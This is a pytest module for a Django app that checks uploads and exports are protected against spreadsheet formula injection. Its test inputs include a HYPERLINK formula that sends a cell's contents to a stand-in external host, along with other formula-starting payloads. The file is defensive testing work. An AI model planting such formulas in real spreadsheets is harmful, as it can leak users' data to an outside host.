"""A formula goes round: given in every file that is taken, refused or kept as text, inert in whatever comes out.

No spreadsheet's work is done here: it is enough that no cell of a file says of itself that it is a formula, and that no
text of a CSV file begins as one.
"""

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from safeboard.figures.performance.models import Upload
from safeboard.figures.performance.reading import read
from safeboard.foundation.signing_in.models import LeaversList
from safeboard.foundation.spreadsheets.neutral import STARTS_A_FORMULA, neutral, without_guard
from safeboard.tools.actions.evidence import place_of
from safeboard.tools.actions.layout import LAYOUT, Titles
from safeboard.tools.actions.models import ActionItem, ActionLoad, Evidence
from tests.actions.sheets import row, workbook
from tests.bad_days.posting import address_of
from tests.bad_days.test_uploads import TAKE_FILES
from tests.house.synthetic import House, house
from tests.matching.test_linkage import HEADER
from tests.performance.making import EXTRACT, PERSONS, PLANS

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x.example/?"&A1,"Open")'
FORMULAS = (LINK, "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1")
TAKEN_OUT = {"label": "official", "reason": "To try it", "sure": "on"}
ROOT = Path(__file__).parents[2] / "safeboard"

FIXED_WORDS = {
    "figures/city/sheets.py": "the invented city's own records, which are read by the road and not by people",
    "figures/exchange/template.py": "an empty sheet of our own words, whose lists to choose from are formulas",
}
"""What writes tables and needs no neutral text."""


@pytest.fixture
def here() -> House:
    return house()


def exports(client: Client, address: str) -> tuple[bytes, bytes]:
    """The list at that address as a workbook and as CSV."""
    made = [client.post(f"{address}export/", {**TAKEN_OUT, "form": form}) for form in ("xlsx", "csv")]
    assert [answer.status_code for answer in made] == [200, 200]
    return made[0].content, made[1].content


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def inert_workbook(content: bytes) -> set[str]:
    """The texts of a workbook in which no cell is a formula, whatever reads it."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert not [name for name in parts.namelist() if b"<f>" in parts.read(name) or b"<f " in parts.read(name)]
    cells = [cell for sheet in load_workbook(io.BytesIO(content)) for line in sheet.iter_rows() for cell in line]
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(STARTS_A_FORMULA)]
    assert [(cell.data_type, cell.quotePrefix) for cell in risky] == [("s", True)] * len(risky)
    return {str(cell.value) for cell in cells}


def inert_csv(content: bytes) -> set[str]:
    """The texts of a CSV file of which none begins as a formula."""
    cells = {cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in line}
    assert [cell for cell in cells if cell.startswith(STARTS_A_FORMULA) and not is_number(cell)] == []
    return cells


def given_file(client: Client, here: House, name: str, field: str, file: str, content: bytes) -> str:
    answer = client.post(address_of(name, here), {field: SimpleUploadedFile(file, content)}, follow=True)
    assert answer.status_code == 200
    return str(answer.content.decode())


def one_line(*cells: str) -> bytes:
    written = io.StringIO()
    csv.writer(written).writerow(cells)
    return written.getvalue().encode()


# Each file that is taken


@pytest.mark.parametrize("formula", FORMULAS)
def test_actions(here: House, formula: str) -> None:
    client = here.client("business_manager")
    cells = row(ACTION=formula)
    sheet = one_line(*LAYOUT.titles) + one_line(*(str(cells.get(title, "")) for title in LAYOUT.titles))
    assert "It begins as a formula does." in given_file(client, here, "actions:loads", "file", "a.csv", sheet)
    assert ActionItem.objects.count() == 0
    if formula.strip() != formula:
        return  # what begins with a blank is not kept with it
    cells = row(ACTION=neutral(formula), DETAILS=neutral(formula))
    sheet = one_line(*LAYOUT.titles) + one_line(*(str(cells.get(title, "")) for title in LAYOUT.titles))
    given_file(client, here, "actions:loads", "file", "b.csv", sheet)
    client.post(reverse("actions:load-all", args=[ActionLoad.objects.latest("made_at").pk]))
    assert ActionItem.objects.get().title == formula
    book, text = exports(client, reverse("actions:actions"))
    assert formula in inert_workbook(book)
    assert f"'{formula}" in inert_csv(text)


def test_actions_with_a_formula_in_a_workbook(here: House) -> None:
    said = given_file(
        here.client("business_manager"), here, "actions:loads", "file", "a.xlsx", workbook(row(ACTION=LINK))
    )
    assert "It is a formula." in said
    held = ActionLoad.objects.get()
    assert [cell[str(Titles.ACTION)] for cell in (each["cells"] for each in held.rows)] == [""]


@pytest.mark.parametrize("formula", FORMULAS)
def test_agencies_lists(here: House, formula: str) -> None:
    client = here.client("safeguarding_manager")
    guarded = one_line(neutral(formula), neutral(formula), "Vane", "14/05/2015", "M", "", "")
    bare = one_line(formula, "Ann", "Vane", "14/05/2015", "M", "", "")
    given_file(client, here, "matching:read-list", "file", "list.csv", HEADER.encode() + guarded + bare)
    book, text = exports(client, reverse("matching:listed"))
    assert formula.strip() in {each.strip() for each in inert_workbook(book)}
    assert any("It begins as a formula does." in each for each in inert_csv(text))


def test_agencies_lists_with_a_formula_in_a_workbook(here: House) -> None:
    book = Workbook()
    book.active.title = "People"
    book.active.append(HEADER.strip().split(","))
    book.active.append(["P1", LINK, "Vane", "2015-05-14", "M"])
    made = io.BytesIO()
    book.save(made)
    client = here.client("safeguarding_manager")
    given_file(client, here, "matching:read-list", "file", "list.xlsx", made.getvalue())
    out, text = exports(client, reverse("matching:listed"))
    assert any("It is a formula." in each for each in inert_workbook(out))
    assert LINK not in " ".join(inert_csv(text))


@pytest.mark.parametrize("formula", FORMULAS)
def test_performance(here: House, formula: str) -> None:
    """In a column of codes it is told; as an identifier it is kept as text: on pages, and in every file of a report."""
    client = here.client("analyst")
    persons = PERSONS + one_line(formula, "2015-02-03", formula)
    files = {"ssd_person.csv": persons, "ssd_cp_plans.csv": PLANS, "extract.csv": EXTRACT}
    given_files = [SimpleUploadedFile(name, content) for name, content in files.items()]
    assert client.post(reverse("performance-upload-add"), {"given": given_files}).status_code == 302
    upload = Upload.objects.get()
    read(upload.pk)
    book, text = exports(client, reverse("performance-problems"))
    assert formula.strip() in {each.strip() for each in inert_workbook(book)}
    assert neutral(formula.strip()) in {each.strip() for each in inert_csv(text)}


def test_performance_with_a_formula_in_a_workbook(here: House) -> None:
    book = Workbook()
    book.active.title = "ssd_person"
    for line in PERSONS.decode().splitlines():
        book.active.append(line.split(","))
    book.active["A2"] = LINK
    made = io.BytesIO()
    book.save(made)
    client = here.client("analyst")
    file = SimpleUploadedFile("ssd_person.xlsx", made.getvalue())
    client.post(reverse("performance-upload-add"), {"given": [file, SimpleUploadedFile("extract.csv", EXTRACT)]})
    upload = Upload.objects.get()
    read(upload.pk)
    upload.refresh_from_db()
    said = [problem.message for problem in upload.problems.all()]
    assert (upload.state, "The cell A2 has a formula without value." in said) == ("wrong", True)


def test_staff_lists(here: House) -> None:
    client = here.client("agency_administrator", "police")
    address = address_of("signing_in:leavers", here)
    for cell in ('=HYPERLINK("mailto:a@police.example")', "+a@police.example,=1"):
        answer = client.post(address, {"file": SimpleUploadedFile("staff.csv", one_line(cell))})
        assert (answer.status_code, "There is a problem" in answer.content.decode()) == (200, True)
    assert LeaversList.objects.count() == 0


def test_evidence_is_kept_as_it_is_and_handed_out_as_a_file(here: House) -> None:
    client = here.client("business_manager")
    content = one_line(LINK)
    given_file(client, here, "actions:give-evidence", "file", "list.csv", content)
    evidence = Evidence.objects.get()
    answer = client.get(reverse("actions:evidence-file", args=[evidence.pk]))
    assert place_of(evidence).read_bytes() == content
    assert answer.headers["Content-Disposition"].startswith("attachment;")


def test_every_field_that_takes_a_file_is_tried_with_a_formula() -> None:
    tried = {"actions:loads", "matching:read-list", "performance-upload-add", "signing_in:leavers"}
    assert sorted(tried | {"actions:give-evidence"}) == TAKE_FILES


# Everything that writes tables


def test_whatever_writes_a_table_goes_by_the_one_neutral_text() -> None:
    writes, neutral_ones = set(), set()
    for path in ROOT.rglob("*.py"):
        tree, name = ast.parse(path.read_text()), str(path.relative_to(ROOT))
        calls = {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}
        writes |= {name} if calls & {"csv.writer", "csv.DictWriter", "Workbook", "xlsxwriter.Workbook"} else set()
        imported = {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        neutral_ones |= {name} if "safeboard.foundation.spreadsheets.neutral" in imported else set()
    assert writes - neutral_ones == set(FIXED_WORDS)


@given(st.text())
def test_a_text_goes_out_and_comes_back(text: str) -> None:
    assert not neutral(text).startswith(STARTS_A_FORMULA)
    if neutral(text) != text:
        assert without_guard(neutral(text)) == text
